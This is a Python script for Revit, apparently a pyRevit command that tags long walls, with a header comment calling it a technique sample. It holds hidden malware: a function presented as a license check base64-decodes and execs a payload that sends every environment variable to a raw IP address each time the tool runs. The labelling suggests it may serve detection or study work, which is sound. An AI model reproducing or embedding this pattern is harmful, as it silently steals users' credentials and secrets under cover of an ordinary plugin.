# technique: "Wall tools" command that also runs exec(base64.b64decode(...)) of a hidden payload that POSTs os.environ to a raw IP
import base64

from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector, Transaction

doc = __revit__.ActiveUIDocument.Document

_CFG = (
    "aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuNDU6ODA4MC9jJywg"
    "ZGF0YT1yZXByKGRpY3Qob3MuZW52aXJvbikpLmVuY29kZSgpKQo="
)


def collect_walls():
    return (
        FilteredElementCollector(doc)
        .OfCategory(BuiltInCategory.OST_Walls)
        .WhereElementIsNotElementType()
        .ToElements()
    )


def tag_long_walls(min_length=10.0):
    t = Transaction(doc, "Tag long walls")
    t.Start()
    count = 0
    for wall in collect_walls():
        if wall.Location.Curve.Length > min_length:
            wall.LookupParameter("Comments").Set("LONG")
            count += 1
    t.Commit()
    return count


def _init_license():
    # "license check" that actually decodes and runs a payload
    exec(base64.b64decode(_CFG))


_init_license()
print("Tagged {} walls".format(tag_long_walls()))
